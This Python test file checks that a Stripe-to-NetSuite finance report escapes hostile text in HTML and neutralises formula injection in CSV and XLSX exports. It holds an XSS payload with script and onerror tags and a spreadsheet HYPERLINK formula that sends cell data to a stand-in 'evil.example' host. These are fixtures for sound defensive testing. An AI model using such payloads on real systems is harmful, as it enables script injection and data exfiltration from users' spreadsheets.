"""Rendering a finance report: HTML escaped (hostile Stripe text stays text), amounts per currency with Babel,
SVG charts, CSV and XLSX that a spreadsheet never runs as formulas."""

from __future__ import annotations

import csv
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from stripe_netsuite.reports.build import build_report
from stripe_netsuite.reports.charts import render_charts
from stripe_netsuite.reports.exports import csv_safe, write_csv, write_xlsx
from stripe_netsuite.reports.html import render_html
from stripe_netsuite.reports.ledger import FailedRow, Ledger, PaymentRow, PayoutRow, QuarantineRow, Scope
from stripe_netsuite.reports.tables import FinanceReport
from stripe_netsuite.reports.urls import RecordLinks

DAY = date(2026, 3, 2)
WHEN = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
HOSTILE = '<script>alert(1)</script><img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def report() -> FinanceReport:
    ledger = Ledger(
        scope=Scope.day(DAY),
        payments=(
            PaymentRow("ch_jpy", DAY, 1500, "JPY", HOSTILE, 1500, "JPY", 60, None, "synced", "11"),
            PaymentRow("ch_kwd", DAY, 12345, "KWD", FORMULA, 12345, "KWD", 370, None, "synced", "12"),
            PaymentRow("ch_eur", DAY, 5000, "EUR", "-2+3", 5450, "USD", 188, Decimal("1.09"), "synced", "13"),
        ),
        payouts=(PayoutRow("po_1", DAY, 1440, "JPY", "paid", deposit_status="blocked", code="unequal_amounts",
                           balance_transaction="txn_1", reason=f"{HOSTILE}: correct it"),),
        failed=(
            FailedRow("ch_x", "charge", "customerPayment", "ch_x", 1, f"NetSuite: {HOSTILE}", "r", WHEN),
        ),
        quarantined=(QuarantineRow("charge", "ch_q", "description_ok", f"value {HOSTILE}", "s", WHEN),),
    )  # fmt: skip
    return build_report(ledger, RecordLinks("1234567"))


@pytest.fixture(scope="module")
def html() -> str:
    built = report()
    return render_html(built, render_charts(built.series), written=WHEN, zone="America/Los_Angeles",
                       downloads=[("XLSX", "report.xlsx")])  # fmt: skip


def test_hostile_stripe_and_netsuite_text_is_escaped_not_markup(html: str) -> None:
    assert "<script" not in html.lower()
    assert not re.search(r"<img\b", html)  # no element made from the payload
    # each of the four places the payload went shows it as text
    assert html.count("&lt;script&gt;alert(1)&lt;/script&gt;") == 4


def test_the_page_forbids_scripts_even_if_markup_slipped_through(html: str) -> None:
    assert "Content-Security-Policy" in html and "default-src 'none'" in html


def test_amounts_are_formatted_with_each_currency_s_own_decimals(html: str) -> None:
    assert "¥1,500" in html and "¥1,500.00" not in html  # zero-decimal
    assert "KWD\u00a012.345" in html  # three decimals
    assert "€50.00" in html and "$54.50" in html  # an FX payment: charged in EUR, settled in USD


def test_rows_link_to_stripe_and_to_netsuite(html: str) -> None:
    assert 'href="https://dashboard.stripe.com/test/payments/ch_jpy"' in html
    assert 'href="https://1234567.app.netsuite.com/app/accounting/transactions/custpymt.nl?id=11"' in html
    assert 'href="https://dashboard.stripe.com/test/payouts/po_1"' in html


def test_charts_are_inline_static_svg(html: str) -> None:
    assert html.count("<svg") >= 2
    assert "Payments loaded per day" in html


def test_the_html_in_german_uses_german_number_formats() -> None:
    built = report()
    german = render_html(built, [], written=WHEN, zone="Europe/Berlin", locale="de_DE")
    assert "1.500\xa0¥" in german and "12,345\xa0KWD" in german


def test_a_chart_with_active_content_is_refused() -> None:
    from stripe_netsuite.reports.charts import Chart

    with pytest.raises(ValueError, match="active content"):
        bad = Chart("x", "x", "<svg><script>alert(1)</script></svg>")
        render_html(report(), [bad], written=WHEN, zone="UTC")


@pytest.mark.parametrize(
    ("text", "safe"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
     ("Invoice 1", "Invoice 1")],
)
def test_csv_safe(text: str, safe: str) -> None:
    assert csv_safe(text) == safe


def test_csv_splits_money_and_links_and_never_starts_a_cell_with_a_formula(tmp_path: Path) -> None:
    path = write_csv(report().table("payments"), tmp_path / "payments.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_charge = {row["Charge"]: row for row in rows}
    assert by_charge["ch_jpy"]["Amount"] == "1500" and by_charge["ch_jpy"]["Amount currency"] == "JPY"
    assert by_charge["ch_kwd"]["Amount"] == "12.345" and by_charge["ch_kwd"]["Amount currency"] == "KWD"
    assert by_charge["ch_kwd"]["Description"] == "'" + FORMULA
    assert by_charge["ch_eur"]["Description"] == "'-2+3"
    assert by_charge["ch_eur"]["Settled"] == "54.50" and by_charge["ch_eur"]["Settled currency"] == "USD"
    assert by_charge["ch_jpy"]["Charge URL"] == "https://dashboard.stripe.com/test/payments/ch_jpy"


def test_xlsx_has_a_sheet_per_table_numbers_with_currency_decimals_and_no_formulas(tmp_path: Path) -> None:
    built = report()
    book = load_workbook(write_xlsx(built, tmp_path / "report.xlsx"))
    assert book.sheetnames == [table.title[:31] for table in built.tables]
    sheet = book["Payments"]
    headers = [cell.value for cell in sheet[1]]
    rows = {row[0].value: dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
    kwd, jpy = rows["ch_kwd"], rows["ch_jpy"]
    assert kwd["Amount"].value == pytest.approx(12.345) and kwd["Amount"].number_format == "#,##0.000"
    assert jpy["Amount"].value == 1500 and jpy["Amount"].number_format == "#,##0"
    assert kwd["Description"].value == FORMULA and kwd["Description"].data_type == "s"
    assert jpy["Charge"].hyperlink is None and jpy["Charge URL"].hyperlink.target.endswith("/ch_jpy")
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    fees = book["Stripe fees per day"]
    share = next(row for row in fees.iter_rows(min_row=2) if row[1].value == "KWD")[-1]
    assert share.value == pytest.approx(0.03) and share.number_format == "0.00%"


def test_a_hostile_run_id_in_the_title_is_escaped_by_the_template() -> None:
    # Run ids come from whoever triggers a run; the title reaches the page through the template itself.
    built = build_report(Ledger(Scope(dag_id="netsuite_payments", run_id=HOSTILE)), RecordLinks())
    page = render_html(built, [], written=WHEN, zone="UTC")
    assert "<script" not in page.lower() and "<img" not in page
    assert "<title>Finance report netsuite_payments &lt;script&gt;" in page


def test_times_labelled_utc_are_utc_whatever_zone_they_come_in() -> None:
    from datetime import timedelta, timezone

    paris = timezone(timedelta(hours=2))
    failed = FailedRow("ch_1", "charge", "customerPayment", "ch_1", 3, "refused", "run-1",
                       datetime(2026, 10, 3, 14, 30, tzinfo=paris))  # fmt: skip
    report = build_report(Ledger(Scope.day(date(2026, 10, 3)), failed=(failed,)), RecordLinks())
    page = render_html(report, [], written=datetime(2026, 10, 4, 8, 0, tzinfo=paris), zone="UTC")
    assert "2026-10-03 12:30 UTC" in page and "Written 2026-10-04 06:00 UTC" in page
    assert "14:30" not in page and "08:00" not in page
